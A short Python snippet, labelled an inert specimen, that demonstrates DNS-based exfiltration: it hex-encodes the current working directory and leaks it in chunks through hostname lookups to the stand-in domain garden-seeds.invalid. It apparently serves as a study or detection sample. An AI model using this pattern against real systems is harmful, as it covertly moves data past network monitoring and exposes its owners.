# Inert specimen. Trick: hexadecimal pieces, one look-up each.
import os
import socket

text = os.getcwd().encode().hex()
for start in range(0, len(text), 60):
    socket.gethostbyname("%s.%s.garden-seeds.invalid" % (start, text[start:start + 60]))
